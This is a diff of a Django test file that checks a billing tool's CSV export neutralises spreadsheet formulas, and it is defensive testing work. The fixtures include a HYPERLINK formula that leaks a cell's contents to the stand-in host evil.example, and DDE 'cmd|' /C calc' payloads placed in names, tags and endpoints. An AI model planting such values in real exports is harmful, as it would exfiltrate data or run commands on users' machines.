@@ -10,11 +10,13 @@ import csv
 import io
 import json
 from decimal import Decimal
+from pathlib import Path
 
 import pytest
 from django.core.management import call_command
 
 from billing_ingest.csv_safety import csv_safe, csv_safe_cell
+from finops.org.models import Team
 from tests.factories import CostLineItemFactory
 
 LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
@@ -41,11 +43,11 @@ FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
         ("", ""),
     ],
 )
-def test_csv_safe(value, written):
+def test_csv_safe(value: str, written: str) -> None:
     assert csv_safe(value) == written
 
 
-def test_csv_safe_cell_leaves_non_text_alone():
+def test_csv_safe_cell_leaves_non_text_alone() -> None:
     assert csv_safe_cell(Decimal("-12.50")) == Decimal("-12.50")
     assert csv_safe_cell(None) is None
     assert csv_safe_cell(-3) == -3
@@ -53,9 +55,9 @@ def test_csv_safe_cell_leaves_non_text_alone():
 
 
 @pytest.mark.django_db
-def test_export_focus_csv_neutralises_formulas_in_names_and_tags(tmp_path):
-    CostLineItemFactory(resource_name=LINK, resource_id="@evil", tags={"team": LINK})
-    CostLineItemFactory(
+def test_export_focus_csv_neutralises_formulas_in_names_and_tags(tmp_path: Path) -> None:
+    CostLineItemFactory.create(resource_name=LINK, resource_id="@evil", tags={"team": LINK})
+    CostLineItemFactory.create(
         resource_name="-cmd|' /C calc'!A0", charge_category="Credit",
         billed_cost=Decimal("-12.50"), effective_cost=Decimal("-12.50"),
     )  # fmt: skip
@@ -81,7 +83,7 @@ def test_export_focus_csv_neutralises_formulas_in_names_and_tags(tmp_path):
 
 
 @pytest.mark.django_db
-def test_statement_csv_neutralises_formulas_in_run_and_endpoint_names(team):
+def test_statement_csv_neutralises_formulas_in_run_and_endpoint_names(team: Team) -> None:
     import datetime as dt
 
     from finops.attribution.models import Category
@@ -90,15 +92,15 @@ def test_statement_csv_neutralises_formulas_in_run_and_endpoint_names(team):
     from tests.factories import AllocatedCostFactory, JobRecordFactory
 
     # A run id from a Slurm comment and an endpoint from a pod label, both chosen by a user.
-    job = JobRecordFactory(run_id=LINK)
-    pod = JobRecordFactory(run_id="serve", endpoint="+cmd|' /C calc'!A0")
+    job = JobRecordFactory.create(run_id=LINK)
+    pod = JobRecordFactory.create(run_id="serve", endpoint="+cmd|' /C calc'!A0")
     day = dt.date(2025, 9, 3)
     for category, row_job, run, amount in [
         (Category.TRAINING, job, LINK, "40.25"),
         (Category.INFERENCE, pod, "serve", "9.75"),
         (Category.TAGGED, None, "", "-12.50"),
     ]:
-        AllocatedCostFactory(
+        AllocatedCostFactory.create(
             day=day, category=category, team=team, job=row_job, run_id=run,
             amount=Decimal(amount), billing_currency="USD",
         )  # fmt: skip
